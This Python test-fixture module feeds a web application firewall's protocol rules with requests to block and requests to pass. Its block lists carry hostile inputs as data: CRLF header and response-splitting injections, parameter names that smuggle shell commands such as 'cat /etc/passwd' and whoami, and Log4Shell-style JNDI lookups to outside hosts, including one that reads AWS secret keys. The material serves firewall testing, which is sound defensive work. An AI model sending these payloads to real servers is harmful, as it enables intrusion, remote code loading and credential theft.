"""Whole requests for the protocol rules: how a browser or curl builds them, and the cases of the
value classes (``rules/managed/attacks_protocol_values.py``): requests that must get the class's
label, and what real clients and frameworks send that must not. ``test_protocol_rules.py`` runs
them with the other whole-request classes.
"""

from __future__ import annotations

from wafproxy.engine import WafRequest

_UA = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
       "Chrome/124.0 Safari/537.36")
BROWSER = (
    ("Host", "shop.example"),
    ("User-Agent", _UA),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
    ("Accept-Language", "en-US,en;q=0.9"),
    ("Accept-Encoding", "gzip, deflate, br"),
    ("Connection", "keep-alive"),
)
CURL = (("Host", "api.example"), ("User-Agent", "curl/8.5.0"), ("Accept", "*/*"))
FORM = "application/x-www-form-urlencoded"


def req(
    method: str = "GET",
    path: str = "/",
    query: str = "",
    headers: tuple[tuple[str, str], ...] = (),
    body: bytes = b"",
    base: tuple[tuple[str, str], ...] = BROWSER,
) -> WafRequest:
    """A request as the proxy builds it; Content-Length is added for a body unless chunked."""
    hs = list(base) + list(headers)
    names = {k.lower() for k, _ in hs}
    if body and "content-length" not in names and "transfer-encoding" not in names:
        hs.append(("Content-Length", str(len(body))))
    return WafRequest("203.0.113.10", method, path, query, tuple(hs), body, len(body))


def ct(value: str, body: bytes = b"x=1", method: str = "POST") -> WafRequest:
    return req(method, headers=(("Content-Type", value),), body=body)


def hdr(name: str, value: str, method: str = "GET", body: bytes = b"") -> WafRequest:
    return req(method, headers=((name, value),), body=body)


def form(body: str, query: str = "", method: str = "POST") -> WafRequest:
    return req(method, query=query, headers=(("Content-Type", FORM),), body=body.encode())


def json_body(text: str, media_type: str = "application/json") -> WafRequest:
    return req("POST", "/api", headers=(("Content-Type", media_type),), body=text.encode(), base=CURL)


def multipart(name: str, value: str, method: str = "POST") -> WafRequest:
    body = f'--b\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n--b--\r\n'.encode()
    return req(method, headers=(("Content-Type", "multipart/form-data; boundary=b"),), body=body)


# class -> (should-block requests, should-pass requests)
VALUE_CASES: dict[str, tuple[list[WafRequest], list[WafRequest]]] = {
    "HeaderInjection": (
        [
            hdr("SomeHeader", "Headerdata%0dInjectedHeader: response_splitting_code"),
            hdr("X-Forwarded-Host", "shop.example%0d%0aSet-Cookie: sid=attacker"),
            hdr("X-Original-URL", "/a%250aLocation:%20https://evil.example/"),
            hdr("Referer", "https://shop.example/anything%00"),
            hdr("X-Api-Version", "1%2500"),
            hdr("Cookie", "hi%13=bye"),
            hdr("Cookie", "sid=abc; theme=dark%7f"),
            hdr("User-Agent", "Mozilla/5.0%01"),
        ],
        [
            # a GET textarea's lines: the browser encoded the `:` (`%3A`)
            hdr("Referer", "https://shop.example/contact?msg=Hello%0D%0ANote%3A+call+me&x=1"),
            hdr("Referer", "https://shop.example/search?q=100%25+cotton"),
            hdr("Cookie", "prefs=%7B%22lang%22%3A%22en%22%7D; sid=9f86d081884c7d65"),
            hdr("Cookie", "_ga=GA1.2.1234567890.1700000000; cart=a%2Cb%2Cc"),
            hdr("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig"),
            hdr("Baggage", "userId=alice%20smith,isProduction=false"),
            hdr("X-Search", "printf %2510s"),  # a typed `%10`, encoded: not a control byte
        ],
    ),
    "EscapedAscii": (
        [
            form("testarg=%5Cu0061lert"),
            req(query="foo=c%5Cu006fnsole.info(1)"),
            req(query="q=\\u0073elect"),
            req(query="name=%255Cu0041dmin"),
            form("x=%5CU0031%5CU0032"),
        ],
        [
            form("bio=caf%5Cu00e9"),  # an escaped non-ASCII letter (Python's json.dumps)
            req(query="json=%7B%22html%22%3A%22%5Cu003cb%5Cu003e%22%7D"),  # Go's json escapes < > &
            req(query="path=C%3A%5Cusers%5Calice"),
            ct("application/json", b'{"test":true,"q":"\\u0061\\u006c\\u0065\\u0072\\u0074"}'),
        ],
    ),
    "MethodOverride": (
        [
            req("POST", query="_method=TRACE", headers=(("Content-Length", "0"),)),
            req("POST", query="_method=CONNECT", headers=(("Content-Length", "0"),)),
            req("POST", query="_method=HEAD", headers=(("Content-Length", "0"),)),
            req("POST", query="_method=GET", headers=(("Content-Length", "0"),)),
            req("POST", query="_method=PROPFIND", headers=(("Content-Length", "0"),)),
            req("POST", query="_method=ABCDEFGHIJ", headers=(("Content-Length", "0"),)),
            req("POST", query="_method=%44%45%4C%45%54%45", headers=(("Content-Length", "0"),)),
            req("POST", query="id=1&%5Fmethod=OPTIONS"),
            req("GET", "/transfer", query="amount=1000&_method=POST"),
            req("GET", "/api/resource", query="_method=PUT"),
            req("HEAD", query="_method=delete"),
            form("_method=TRACE&id=123"),
            form("id=1&_method=PUTS"),
            multipart("_method", "CONNECT"),
        ],
        [
            req("POST", "/api/resource", query="_method=DELETE", headers=(("Content-Length", "0"),)),
            req("POST", query="id=123&_method=PATCH&confirm=true", headers=(("Content-Length", "0"),)),
            form("_method=delete&authenticity_token=abc"),  # Rails button_to
            form("_token=abc&_method=PUT&name=Jane"),  # Laravel @method('PUT')
            form("utf8=%E2%9C%93&_method=patch&user%5Bname%5D=Jane"),
            multipart("_method", "put"),
            req(query="http_method=TRACE&doc=rfc9110"),  # another parameter that ends in _method
            req(query="payment_method=card"),
        ],
    ),
    "ArgumentLineInjection": (
        [
            req("GET", "/get", query="941151-1=test%0Dnext=more"),
            req("GET", "/get", query="a=test%0Anext=more"),
            req("GET", "/get", query="a=test%0A%0Dnext=more"),
            req(query="next=%2Fhome%0D%0ASet-Cookie:sid=1"),
            req(query="r=x%250d%250aLocation:https://evil.example"),
        ],
        [
            req(query="comment=Hello%0D%0ANote%3A+see+below&x=1"),
            req(query="text=line1%0Aline2%0Aline3"),
            req(query="csv=a%2Cb%0D%0Ac%2Cd"),
            req(query="q=100%25%0Acotton"),
        ],
    ),
    "ArrayNameTrailer": (
        [
            req(query="foo[1]a=bar&foo[1]b=%3Cevil%3E"),
            req(query="foo[1]a[2]=bar"),
            req(query="user%5Bname%5Dx=1"),
            form("cart[items]_=1&cart[items]=2"),
        ],
        [
            req(query="foo[1]=bar&foo[]=baz"),
            req(query="user%5Baddresses_attributes%5D%5B0%5D%5Bstreet%5D=Main"),
            req(query="Items%5B0%5D.Name=pen&Items%5B1%5D.Name=ink"),  # ASP.NET MVC list binding
            form("q%5Bname_cont%5D=jane&q%5Bs%5D=created_at+desc"),  # Ransack
            req(query="note=see+[1]+above&x=1"),  # brackets in a value
        ],
    ),
    "ArgumentNameCommand": (
        [
            req(query="%3Bid=1"),
            req(query="page=2&%7C%20whoami=1"),
            req(query="x%7C%7Cid=1"),
            req(query="%26%26%20ver=1"),
            req(query="%60uname%60=1"),
            req(query="%7C+cat+%2Fetc%2Fpasswd=1"),
            req(query="a=1&%257Cid=2"),
            form("%3Bls=1&x=2"),
        ],
        [
            req(query="a=1;id=2"),  # the legacy ";" separator: "=" comes first
            req(query="sep=%7C&fmt=csv"),  # a separator as a value
            req(query="q=%7C+id+%7C+name+%7C"),  # a markdown table row as a value
            req(query="id=1&type=a&set=1&env=prod"),
            req(query="filter%7Cstatus=open"),
            req(query=";lang=en"),
            form("x=Tom+%26%26+Jerry&id=3"),
        ],
    ),
    "BrowserHeaderLookup": (
        [
            req(headers=(("Cache-Control", "${jndi:dns://dns.example.net/a1b2.l}"),)),
            req(headers=(("DNT", "${jndi:ldap://203.0.113.9:1389/a}"),)),
            req(headers=(("Pragma", "${${lower:j}ndi:rmi://x/y}"),)),
            req(headers=(("TE", "${env:AWS_SECRET_ACCESS_KEY}"),)),
            req(base=(("Host", "a.example"), ("Accept", "${jndi:ldap://x/a}"))),
            req(base=(("Host", "a.example"), ("Accept-Language", "en-US,${jndi:dns://x/a}"))),
        ],
        [
            req(headers=(("Cache-Control", "max-age=0, no-cache"), ("Pragma", "no-cache"), ("DNT", "1"), ("TE", "trailers"))),
            req(base=(("Host", "a.example"), ("Accept", "application/json, text/plain, */*"), ("Accept-Language", "de-CH,de;q=0.9,fr;q=0.7"))),
            req(headers=(("Upgrade-Insecure-Requests", "1"), ("Sec-Fetch-Mode", "navigate"), ("Priority", "u=0, i"))),
            req(headers=(("Sec-CH-UA", '"Chromium";v="124", "Not-A.Brand";v="99"'), ("Accept-Encoding", "gzip, deflate, br, zstd"))),
        ],
    ),
    "NulInArgument": (
        [
            form("uid=%29%29%00nosuchvalue"),  # an LDAP filter closed and cut
            form("file=report.pdf%00.php&x=1"),
            form("q=a%2500b"),  # double encoded
            form("uid=*%29%29%u0000x"),  # IIS's %u form
            json_body('{"user": "*))\\u0000admin"}'),
            json_body('{"filter": {"name": "x\\u0000"}}', "application/vnd.api+json"),
        ],
        [
            form("q=printf+%25s&note=100%25"),  # a typed percent sign
            form("amount=1000&memo=ref+00123"),
            json_body('{"n": "\\u00e9t\\u00e9", "sep": "\\u0009", "dash": "\\u2014"}'),  # escaped letters, a tab
            json_body('{"blob": "AAAAAA==", "id": "u0000"}'),
            req("POST", "/upload", headers=(("Content-Type", "text/plain"),), body=b"a\\u0000b %00"),  # not a form, not JSON
        ],
    ),
}

# Payload-class cases on bytes the placement helper (``request_with``) cannot produce: a percent
# escape whose hex digits are percent-encoded (InvalidEncoding, CRS 920230), in the query and path.
DOUBLE_ENCODED_HEX = (
    [
        req(query="parm=%25%37%33%25%36%46%25%36%44%25%36%35"),
        req("GET", "/a%25%34%31b"),
        req(query="x=%2525%36%31"),
    ],
    [
        req(query="q=50%25%20off"),
        req(query="u=https%253A%252F%252Fshop.example%252F%253Fq%253D1"),
        req(query="p=%2541"),
    ],
)
